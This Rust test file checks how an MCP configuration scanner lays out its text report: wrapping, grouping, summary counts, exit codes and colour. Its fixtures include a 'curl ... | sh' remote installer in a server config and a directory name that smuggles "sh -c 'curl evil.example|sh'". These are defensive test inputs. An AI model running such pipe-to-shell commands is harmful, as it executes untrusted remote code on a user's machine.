//! The text report's layout from the built binary: findings grouped by server fit
//! 60/80/120/200 columns without splitting a word, the summary counts what JSONL
//! reports and explains the exit code, and colour follows `--color` and the
//! environment everywhere it is printed.

use std::process::Command;

use serde_json::json;

use crate::util::{lock_for, Env, Run, GHP_CLI};

const LONG_PACKAGE: &str =
    "@platform-engineering-org/model-context-protocol-server-for-internal-github-enterprise";
const LONG_NAME: &str = "github-enterprise-internal-tooling-server-for-the-platform-team";
const PROJECT: &str =
    "/home/dev/src/a-very-long-organisation-name/a-very-long-repository-name/services/api";

/// Several clients, long names, paths and evidence, wide characters and
/// combining marks, an unapproved lock and a setting finding.
fn realistic_home(env: &Env) {
    env.cursor(json!({
        LONG_NAME: {"command": "npx", "args": ["-y", LONG_PACKAGE], "env": {"GITHUB_TOKEN": GHP_CLI}},
        "日本語のサーバー": {"url": "http://mcp.example.jp/日本語/エンドポイント/とても長いパス"},
        "cafe\u{301}-notes": {"command": "uvx", "args": ["notes-server"]},
        "pinned": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2026.1.26"]},
    }));
    env.write(
        "home/.claude.json",
        json!({
            "mcpServers": {"remote": {"type": "http", "url": "https://mcp.example.com/mcp"}},
            "projects": {PROJECT: {"mcpServers": {
                "api-remote": {"type": "http", "url": "http://api.internal.example.com/mcp"}
            }}}
        })
        .to_string(),
    );
    env.write(
        "home/.config/Code/User/settings.json",
        json!({"chat.mcp.discovery.enabled": true}).to_string(),
    );
    env.write(
        "work/.mcp.json",
        json!({"mcpServers": {"installer": {"command": "sh", "args": ["-c",
            "curl -fsSL https://raw.githubusercontent.com/some-org/some-repo/refs/heads/main/scripts/install-the-server.sh | sh"]}}})
        .to_string(),
    );
    env.write(
        "work/locks/notes-server.warden.lock",
        lock_for(
            json!({"command": "uvx", "args": ["notes-server"], "url": null}),
            false,
        )
        .to_string(),
    );
}

/// `doctor ARGS` in `env` with extra environment variables (stdout a pipe).
fn doctor(env: &Env, vars: &[(&str, &str)], args: &[&str]) -> Run {
    env.doctor_env(vars, args)
}

/// Terminal columns of `s`, counted independently of the binary's own table for
/// the characters these homes print: CJK and fullwidth forms 2, combining marks 0.
fn columns(s: &str) -> usize {
    s.chars()
        .map(|c| match c as u32 {
            0x0300..=0x036F => 0,
            0x1100..=0x115F | 0x2E80..=0xA4CF | 0xAC00..=0xD7A3 | 0xF900..=0xFAFF => 2,
            0xFF00..=0xFF60 | 0xFFE0..=0xFFE6 => 2,
            _ => 1,
        })
        .sum()
}

/// The laid-out lines of a report: from the header to Next steps, and from the
/// files not scanned or the summary to the end (Next steps' lines and the CI
/// snippet are pasted, so never wrapped).
fn laid_out(text: &str) -> Vec<&str> {
    let next = text.find("\nNext steps").unwrap_or(text.len());
    let tail = text[next..]
        .find("\nNot scanned")
        .or_else(|| text[next..].find("\nSummary:"))
        .map_or("", |i| &text[next + i..]);
    text[..next].lines().chain(tail.lines()).collect()
}

/// What a line says without its gutter or indentation.
fn body(line: &str) -> &str {
    line.trim_start_matches(['│', ' '])
}

#[test]
fn no_line_is_wider_than_the_width_and_no_word_is_split() {
    let env = Env::new();
    realistic_home(&env);
    let jsonl = doctor(&env, &[], &["--json"]);
    // The words of every listed finding's message and evidence, and of every name.
    let mut words: Vec<String> = Vec::new();
    for record in jsonl.jsonl() {
        if record["rule_id"] == "WRD-DOCTOR-NO-LOCK" || record.get("rule_id").is_none() {
            continue;
        }
        let message = record["message"].as_str().unwrap_or_default();
        // JSONL appends the fix command in parentheses; the text prints it alone.
        let message = message.split(" (mcp-warden ").next().unwrap_or_default();
        for text in [message, record["snippet"].as_str().unwrap_or_default()] {
            words.extend(
                text.split(' ')
                    .filter(|w| !w.is_empty() && !w.starts_with("WRD-"))
                    .map(String::from),
            );
        }
    }
    assert!(words.iter().any(|w| w.contains(LONG_PACKAGE)), "{words:?}");
    for width in [60usize, 80, 120, 200] {
        let run = doctor(&env, &[("COLUMNS", &width.to_string())], &[]);
        run.expect_code(1);
        let lines = laid_out(&run.stdout);
        assert!(lines.len() > 20, "{}", run.stdout);
        for line in &lines {
            let said = body(line);
            let one_word = !said.contains(' ');
            // A fix command stands alone on its line, whole, to be pasted.
            let command = line.starts_with("    mcp-warden ");
            assert!(
                columns(line) <= width || one_word || command,
                "{width}: {} columns: {line:?}\n{}",
                columns(line),
                run.stdout
            );
            // An over-wide line is one word behind its label at most.
            if columns(line) > width && !command {
                assert!(one_word, "{width}: {line:?}");
            }
        }
        let printed: Vec<&str> = lines.iter().flat_map(|l| body(l).split(' ')).collect();
        for word in &words {
            assert!(
                printed.iter().any(|p| p.contains(word.as_str())),
                "{width}: {word:?} is split or missing:\n{}",
                run.stdout
            );
        }
        // Names and path components are whole too (paths break after `/` or `#`).
        for part in [
            LONG_NAME,
            "日本語のサーバー",
            "cafe\u{301}-notes",
            "a-very-long-repository-name",
        ] {
            assert!(
                lines.iter().any(|l| l.contains(part)),
                "{width}: {part:?} split:\n{}",
                run.stdout
            );
        }
        // Every line of a group carries the gutter or is a command: no wrapped
        // config text starts a line.
        let findings = lines
            .iter()
            .skip_while(|l| !l.starts_with("Posture findings"))
            .skip(1);
        for line in findings {
            assert!(
                line.is_empty()
                    || line.starts_with('│')
                    || line.starts_with("    mcp-warden ")
                    || line.starts_with("~/")
                    || line.starts_with('/')
                    || line.starts_with("Summary:")
                    || line.starts_with("  ")
                    || line.starts_with("exit "),
                "{width}: {line:?}"
            );
        }
    }
}

#[test]
fn findings_are_grouped_by_server_with_their_place_and_fix() {
    let env = Env::new();
    realistic_home(&env);
    let run = doctor(&env, &[("COLUMNS", "200")], &[]);
    let text = &run.stdout;
    let findings = &text[..text.find("\nNext steps").unwrap_or(text.len())];
    // One heading per server: target, client, file:line.
    assert!(
        findings.contains(&format!(
            "~/.cursor/mcp.json#{LONG_NAME}  Cursor  ~/.cursor/mcp.json:1\n"
        )),
        "{text}"
    );
    assert!(
        findings.contains(&format!(
            "~/.claude.json#projects[{PROJECT}]#api-remote  Claude Code  ~/.claude.json:1\n"
        )),
        "{text}"
    );
    // A setting's finding under its file.
    assert!(
        findings.contains("~/.config/Code/User/settings.json  VS Code  settings\n│ low       WRD-CLIENT-DISCOVERY-IMPORT"),
        "{text}"
    );
    // The unapproved lock's fix is the rotate command, alone on its line.
    assert!(
        findings.contains("fix: run\n    mcp-warden lock rotate locks/notes-server.warden.lock --approver you@example.com\n"),
        "{text}"
    );
    // The redacted evidence, never the token.
    assert!(findings.contains("evidence: ghp_…(len=40)"), "{text}");
    assert!(!run.all().contains(GHP_CLI));
    // No-lock findings fold into Next steps.
    assert!(!findings.contains("WRD-DOCTOR-NO-LOCK"), "{text}");
    let next = &text[text.find("\nNext steps").expect("next steps")..];
    assert!(
        next.contains(&format!("'~/.cursor/mcp.json#{LONG_NAME}'")),
        "{next}"
    );
    // Worst group first.
    let first = findings
        .lines()
        .find(|l| l.starts_with('~') || l.starts_with('/'))
        .unwrap_or_default();
    assert!(
        first.contains(LONG_NAME) || first.contains("installer"),
        "{text}"
    );
}

/// `(exit code, meaning)` from the summary's last line.
fn printed_exit(run: &Run) -> (i32, String) {
    let line = run
        .stdout
        .lines()
        .rev()
        .find(|l| l.starts_with("exit "))
        .unwrap_or_else(|| panic!("no exit line:\n{}", run.stdout));
    let (code, meaning) = line["exit ".len()..].split_once(": ").expect("exit N: …");
    (code.parse().expect("code"), meaning.to_string())
}

#[test]
fn summary_counts_what_jsonl_reports_and_explains_the_exit_code() {
    let env = Env::new();
    realistic_home(&env);
    let jsonl = doctor(&env, &[], &["--json"]);
    let findings: Vec<serde_json::Value> = jsonl
        .jsonl()
        .into_iter()
        .filter(|r| r.get("rule_id").is_some())
        .collect();
    let count = |severity: &str| {
        findings
            .iter()
            .filter(|r| r["severity"] == severity)
            .count()
    };
    let no_lock = findings
        .iter()
        .filter(|r| r["rule_id"] == "WRD-DOCTOR-NO-LOCK")
        .count();
    let unapproved = findings
        .iter()
        .filter(|r| r["rule_id"] == "WRD-DOCTOR-LOCK-UNAPPROVED")
        .count();
    assert!(no_lock > 0 && unapproved == 1);
    let run = doctor(&env, &[("COLUMNS", "400")], &[]);
    let summary = run
        .stdout
        .lines()
        .find(|l| l.starts_with("Summary:"))
        .unwrap_or_else(|| panic!("{}", run.stdout));
    let mut severities = Vec::new();
    for severity in ["critical", "high", "medium", "low"] {
        if count(severity) > 0 {
            severities.push(format!("{} {severity}", count(severity)));
        }
    }
    let servers = run.stdout.lines().next().unwrap_or_default();
    let n_servers: usize = servers
        .split(", ")
        .nth(1)
        .and_then(|s| s.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{servers}"));
    assert_eq!(
        summary,
        format!(
            "Summary: {n_servers} server(s) in 4 config file(s); {} finding(s): {}; 0 suppressed; \
             {} without an approved lock ({no_lock} with none, under Next steps; 1 with an unapproved one); \
             every file was scanned",
            findings.len(),
            severities.join(", "),
            no_lock + 1,
        )
    );
    let (code, meaning) = printed_exit(&run);
    assert_eq!(code, run.code);
    assert_eq!(
        meaning,
        format!(
            "{} finding(s); any finding fails the run (--fail-on sets a threshold)",
            findings.len()
        )
    );
    let high = doctor(&env, &[("COLUMNS", "400")], &["--fail-on", "high"]);
    let (code, meaning) = printed_exit(&high);
    assert_eq!((code, high.code), (1, 1));
    assert_eq!(
        meaning,
        format!(
            "{} finding(s) at or above high",
            count("critical") + count("high")
        )
    );
}

#[test]
fn a_pinned_home_passing_its_threshold_says_exit_zero() {
    let env = Env::new();
    // Only a low no-lock finding: --fail-on medium passes.
    env.cursor(json!({"m": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory@2026.1.26"]}}));
    let run = doctor(&env, &[], &["--fail-on", "medium"]);
    run.expect_code(0);
    assert!(
        run.stdout
            .contains("no posture findings; 1 server(s) have no warden.lock"),
        "{}",
        run.stdout
    );
    assert_eq!(
        printed_exit(&run),
        (0, "no finding at or above medium (1 below it)".to_string())
    );
    let strict = doctor(&env, &[], &[]);
    assert_eq!(printed_exit(&strict).0, strict.code);
    assert_eq!(strict.code, 1);
}

#[test]
fn skipped_files_are_counted_and_exit_one() {
    let env = Env::new();
    env.write("elsewhere.json", r#"{"mcpServers": {}}"#);
    env.symlink(&env.root().join("elsewhere.json"), "home/.cursor/mcp.json");
    let run = doctor(&env, &[("COLUMNS", "400")], &[]);
    run.expect_code(1);
    let summary = run
        .stdout
        .lines()
        .find(|l| l.starts_with("Summary:"))
        .unwrap_or_else(|| panic!("{}", run.stdout));
    assert!(
        summary.ends_with("1 file(s) skipped, 0 unreadable"),
        "{summary}"
    );
    assert_eq!(
        printed_exit(&run),
        (
            1,
            "1 file(s) skipped unread (a skip always exits 1)".to_string()
        )
    );
}

fn has_colour(text: &str) -> bool {
    text.contains('\x1b')
}

#[test]
fn colour_follows_the_flag_and_the_environment() {
    let env = Env::new();
    realistic_home(&env);
    // (variables, arguments, coloured) — stdout is a pipe.
    type Vars<'a> = &'a [(&'a str, &'a str)];
    let cases: &[(Vars, &[&str], bool)] = &[
        (&[], &[], false),
        (&[("TERM", "xterm-256color")], &[], false),
        (&[], &["--color", "always"], true),
        (&[], &["--color=never"], false),
        (&[("CLICOLOR_FORCE", "1")], &[], true),
        (&[("CLICOLOR_FORCE", "0")], &[], false),
        (&[("CLICOLOR_FORCE", "")], &[], false),
        (&[("CLICOLOR_FORCE", "1")], &["--color", "never"], false),
        (&[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")], &[], false),
        (&[("CLICOLOR_FORCE", "1"), ("CLICOLOR", "0")], &[], true),
        (&[("CLICOLOR_FORCE", "1"), ("TERM", "dumb")], &[], true),
        (&[("NO_COLOR", "1")], &["--color", "always"], true),
        (&[("CLICOLOR", "0")], &["--color", "always"], true),
    ];
    for (vars, args, coloured) in cases {
        let run = doctor(&env, vars, args);
        assert_eq!(
            has_colour(&run.stdout),
            *coloured,
            "{vars:?} {args:?}:\n{}",
            run.stdout
        );
        if *coloured {
            assert!(
                run.stdout.contains("\x1b[1;31mcritical\x1b[0m"),
                "{}",
                run.stdout
            );
            // Never in a line that is pasted.
            for line in run.stdout.lines() {
                if line.trim_start().starts_with("mcp-warden ") || line.starts_with("      ") {
                    assert!(!has_colour(line), "{line:?}");
                }
            }
            let next = &run.stdout[run.stdout.find("Next steps").expect("next")..];
            let next = &next[..next.rfind("\n\n").unwrap_or(next.len())];
            assert!(!has_colour(next), "{next}");
        }
    }
    // Never in JSONL or SARIF, whatever is asked.
    let json = doctor(
        &env,
        &[("CLICOLOR_FORCE", "1")],
        &["--json", "--color", "always"],
    );
    assert!(!has_colour(&json.stdout) && !json.jsonl().is_empty());
    let sarif = doctor(
        &env,
        &[("CLICOLOR_FORCE", "1")],
        &["--sarif", "-", "--color", "always"],
    );
    assert!(!has_colour(&sarif.stdout), "{}", sarif.stdout);
    // The human report on stderr is coloured when asked.
    assert!(has_colour(&sarif.stderr), "{}", sarif.stderr);
}

#[test]
fn colour_reaches_servers_auth_audit_and_clap_messages() {
    let env = Env::new();
    realistic_home(&env);
    let servers = doctor(&env, &[], &["--servers", "--color", "always"]);
    assert!(
        servers.stdout.contains("\x1b[1mCursor\x1b[0m"),
        "{}",
        servers.stdout
    );
    assert!(!has_colour(&doctor(&env, &[], &["--servers"]).stdout));
    let config = env.home().join(".cursor/mcp.json");
    let config = config.to_str().expect("utf-8");
    let audit = |vars: &[(&str, &str)], args: &[&str]| {
        let mut cmd = env.command(&[&["auth", "audit", config][..], args].concat());
        for (k, v) in vars {
            cmd.env(k, v);
        }
        Run::from(cmd.output().expect("run"))
    };
    let coloured = audit(&[], &["--color", "always"]);
    coloured.expect_code(1);
    assert!(
        coloured.stdout.contains("\x1b[1;31mcritical\x1b[0m"),
        "{}",
        coloured.stdout
    );
    assert!(coloured.stdout.contains("\nSummary:") || coloured.stdout.contains("Summary:"));
    assert!(has_colour(&audit(&[("CLICOLOR_FORCE", "1")], &[]).stdout));
    let plain = audit(&[], &[]);
    assert!(!has_colour(&plain.stdout));
    assert!(
        plain
            .stdout
            .contains(&format!("~/.cursor/mcp.json#{LONG_NAME}"))
            || plain.stdout.contains(LONG_NAME)
    );
    // clap's usage errors and help.
    let clap = |vars: &[(&str, &str)], args: &[&str]| {
        let mut cmd = env.command(args);
        for (k, v) in vars {
            cmd.env(k, v);
        }
        Run::from(cmd.output().expect("run"))
    };
    let error = clap(&[], &["doctor", "--bogus"]);
    assert_eq!(error.code, 2);
    assert!(!has_colour(&error.stderr) && error.stderr.starts_with("error:"));
    assert!(has_colour(
        &clap(&[], &["doctor", "--bogus", "--color", "always"]).stderr
    ));
    assert!(has_colour(
        &clap(&[("CLICOLOR_FORCE", "1")], &["doctor", "--bogus"]).stderr
    ));
    assert!(!has_colour(
        &clap(
            &[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")],
            &["doctor", "--bogus"]
        )
        .stderr
    ));
    assert!(!has_colour(
        &clap(
            &[("CLICOLOR_FORCE", "1")],
            &["doctor", "--bogus", "--color=never"]
        )
        .stderr
    ));
    let help = clap(&[("CLICOLOR_FORCE", "1")], &["doctor", "--help"]);
    assert_eq!(help.code, 0);
    assert!(has_colour(&help.stdout) && help.stderr.is_empty());
    assert!(!has_colour(&clap(&[], &["doctor", "--help"]).stdout));
}

/// `doctor` on a pseudo-terminal `cols` wide (util-linux `script`), with `vars`.
fn on_terminal(env: &Env, cols: usize, vars: &[(&str, &str)]) -> Option<String> {
    let probe = Command::new("script").arg("--version").output().ok()?;
    if !probe.status.success() {
        return None;
    }
    let home = env.home();
    let system = env.system_root();
    let bin = crate::util::bin();
    let line = format!(
        "stty cols {cols} rows 50; exec '{}' doctor --home '{}' --platform linux --system-root '{}'",
        bin.display(),
        home.display(),
        system.display()
    );
    let mut cmd = Command::new("script");
    cmd.args(["-qec", &line, "/dev/null"])
        .current_dir(env.work())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", env.home());
    for (k, v) in vars {
        cmd.env(k, v);
    }
    let out = cmd.output().ok()?;
    Some(String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n"))
}

#[test]
fn a_terminal_gets_colour_and_its_own_width() {
    let env = Env::new();
    realistic_home(&env);
    let Some(text) = on_terminal(&env, 70, &[("TERM", "xterm"), ("COLUMNS", "200")]) else {
        eprintln!("skipping: no `script` to make a terminal");
        return;
    };
    assert!(text.contains("\x1b[1;31mcritical\x1b[0m"), "{text}");
    // The terminal's width wins over COLUMNS.
    let plain: String = {
        let mut out = String::new();
        let mut chars = text.chars();
        while let Some(c) = chars.next() {
            if c == '\x1b' {
                for d in chars.by_ref() {
                    if d == 'm' {
                        break;
                    }
                }
            } else {
                out.push(c);
            }
        }
        out
    };
    for line in laid_out(&plain) {
        let command = line.starts_with("    mcp-warden ");
        assert!(
            columns(line) <= 70 || command || !body(line).contains(' '),
            "{line:?}"
        );
    }
    for vars in [
        &[("TERM", "dumb")][..],
        &[("TERM", "xterm"), ("NO_COLOR", "1")][..],
        &[("TERM", "xterm"), ("CLICOLOR", "0")][..],
    ] {
        let text = on_terminal(&env, 100, vars).unwrap_or_default();
        assert!(text.contains("MCP posture"), "{vars:?}: {text}");
        assert!(!has_colour(&text), "{vars:?}: {text}");
    }
}

#[test]
fn a_pipe_without_columns_is_eighty_wide_and_wrapped_header_lines_start_with_the_gutter() {
    let env = Env::new();
    realistic_home(&env);
    // A project directory whose name reads like a command: its `.mcp.json` label
    // is long enough to wrap, and no wrapped piece of it may begin a line.
    let project = "checkout  mcp-warden pin sh -c 'curl evil.example|sh' --approve";
    env.write(
        &format!("work/{project}/.mcp.json"),
        json!({"mcpServers": {"p": {"command": "uvx", "args": ["p-server==1.0"]}}}).to_string(),
    );
    let mut cmd = env.doctor_command(&env.work().join(project), &[]);
    cmd.env_remove("COLUMNS");
    let run = Run::from(cmd.output().expect("run mcp-warden"));
    run.expect_code(1);
    let header: Vec<&str> = run.stdout.lines().take_while(|l| !l.is_empty()).collect();
    assert!(header.len() > 5, "{}", run.stdout);
    assert!(
        header.iter().any(|l| l.starts_with("  │ ")),
        "the header should wrap at 80 columns:\n{}",
        run.stdout
    );
    for line in &header {
        assert!(
            columns(line) <= 80 || !body(line).contains(' '),
            "{} columns: {line:?}",
            columns(line)
        );
        // A header line is the title, a line of its own (two spaces, then text),
        // or a continuation behind the gutter: never a bare config value.
        assert!(
            line.starts_with("MCP posture")
                || line.starts_with("  │ ")
                || (line.starts_with("  ") && !line.starts_with("   ")),
            "{line:?}"
        );
        assert!(!body(line).starts_with("mcp-warden"), "{line:?}");
    }
    for line in laid_out(&run.stdout) {
        assert!(
            columns(line) <= 80 || !body(line).contains(' ') || line.starts_with("    mcp-warden "),
            "{line:?}"
        );
    }
}
